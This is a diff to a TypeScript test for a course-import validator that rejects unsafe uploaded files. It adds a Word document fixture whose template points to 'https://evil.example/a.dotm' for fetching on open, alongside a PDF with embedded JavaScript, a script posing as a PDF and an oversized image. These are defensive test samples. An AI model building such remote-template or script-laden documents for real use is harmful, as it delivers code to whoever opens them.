@@ -226,6 +226,18 @@ const zipped = (manifest: string, parts: ZipPart[] = []) =>
   zipOf([{ name: 'course.json', content: manifest }, ...parts])
 const told = (data: CourseImport) => data.rows.map(({ part, no, weight, message }) => [part, no, weight, message])
 
+/** A document whose template lies on another machine. */
+const fetching = () =>
+  zipOf([
+    { name: '[Content_Types].xml', content: '<Types/>' },
+    { name: 'word/document.xml', content: '<document/>' },
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content:
+        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
+    },
+  ])
+
 test('each bad part is told with its number, and left out only when somebody says so', async () => {
   const bomb = await sharp({ create: { width: 100, height: 100, channels: 3, background: '#fff' } })
     .png()
@@ -243,12 +255,15 @@ test('each bad part is told with its number, and left out only when somebody say
         item('reading', 'Fine'),
       ],
       { cover: 'pictures/1.png', subjects: ['no-such-subject'] },
-      ['1', '2', '3'].map((each) => ({ file: `files/${each}.pdf`, kind: 'file', name: 'a.pdf', captions: {} })),
+      ['1.pdf', '2.pdf', '3.pdf', '4.docx'].map((each) => ({
+        ...{ file: `files/${each}`, kind: 'file', name: `a.${each.slice(2)}`, captions: {} },
+      })),
     ),
     [
       { name: 'files/1.pdf', content: '<html><script>' },
       { name: 'files/2.pdf', content: '%PDF-1.7 whole words', isPacked: false },
       { name: 'files/3.pdf', content: '%PDF-1.7 << /S /JavaScript /JS (app.alert(1)) >>' },
+      { name: 'files/4.docx', content: await fetching() },
       { name: 'pictures/1.png', content: bomb },
     ],
   )
@@ -263,10 +278,11 @@ test('each bad part is told with its number, and left out only when somebody say
     ['file', 1, 'left_out', 'Its content is not what its name says.'],
     ['file', 2, 'left_out', 'It is damaged and cannot be read.'],
     ['file', 3, 'left_out', 'This PDF has programs or files inside.'],
+    ['file', 4, 'left_out', 'This document fetches something from another machine when it is opened.'],
     ['picture', 1, 'left_out', 'A picture can have up to 40 million pixels.'],
     ['item', 1, 'remark', 'Parts that are not allowed were removed from its text: script'],
   ])
-  expect(data.counts).toMatchObject({ items: 6, bad: 9 })
+  expect(data.counts).toMatchObject({ items: 6, bad: 10 })
   expect((await apply(data.import_id)).body.error.code).toBe('has_errors')
   expect((await apply(data.import_id, { leave_out_bad: true })).status).toBe(200)
   const applied = await ended(data.import_id)
